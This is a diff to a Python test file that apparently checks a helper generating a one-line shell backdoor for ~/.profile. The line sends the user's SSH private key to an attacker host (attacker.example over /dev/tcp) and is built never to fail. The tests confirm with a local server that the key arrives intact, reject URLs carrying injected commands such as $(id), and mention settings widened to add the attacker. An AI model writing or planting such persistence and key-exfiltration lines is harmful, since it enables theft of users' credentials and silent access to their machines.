@@ -67,9 +67,45 @@ def test_the_backdoor_line_is_one_line_of_valid_shell_that_never_fails() -> None
     line = backdoor_line("http://attacker.example/next/t/p")
     assert "\n" not in line and line.endswith("|| true")
     subprocess.run(["bash", "-n", "-c", line], check=True)
-    code = line[len('python3 -c "'):line.rindex('"')]
-    compile(code, "backdoor", "exec")
-    assert KEY in code
+    assert KEY in line and "/dev/tcp/attacker.example/80" in line
+    # nowhere to send it (no such name here): the line still succeeds, as a line in ~/.profile must
+    assert subprocess.run(["sh", "-c", backdoor_line("http://unresolvable.invalid/x")], timeout=20).returncode == 0
+
+
+def test_the_backdoor_line_posts_the_key_whole_under_sh(tmp_path: Path) -> None:
+    """Run as dash runs ~/.profile and hooks: the attacker's server gets the key as the body of a POST to the path."""
+    import http.server
+    import threading
+
+    key = tmp_path / "id_rsa"
+    key.write_bytes(b"-----BEGIN KEY-----\ncanary-5e1f\n-----END KEY-----\n")
+    got: list[tuple[str, str, bytes]] = []
+
+    class Sink(http.server.BaseHTTPRequestHandler):
+        def do_POST(self) -> None:
+            got.append((self.path, self.headers["Host"], self.rfile.read(int(self.headers["Content-Length"]))))
+            self.send_response(200)
+            self.end_headers()
+
+        def log_message(self, *args: object) -> None:
+            pass
+
+    server = http.server.HTTPServer(("127.0.0.1", 0), Sink)
+    thread = threading.Thread(target=server.handle_request, daemon=True)
+    thread.start()
+    try:
+        line = backdoor_line(f"http://localhost:{server.server_port}/next/tok/persist-bashrc", str(key))
+        assert subprocess.run(["sh", "-c", line], timeout=20).returncode == 0
+        thread.join(10)
+    finally:
+        server.server_close()
+    assert got == [("/next/tok/persist-bashrc", "localhost", key.read_bytes())]
+
+
+@pytest.mark.parametrize("url", ["https://attacker.example/x", "http://attacker.example/x'y", "http://a b/x", "http://attacker.example/$(id)"])
+def test_a_backdoor_line_refuses_a_url_it_cannot_quote_or_send(url: str) -> None:
+    with pytest.raises(ValueError):
+        backdoor_line(url)
 
 
 def test_widened_settings_add_the_attacker_and_keep_the_users_rules() -> None:
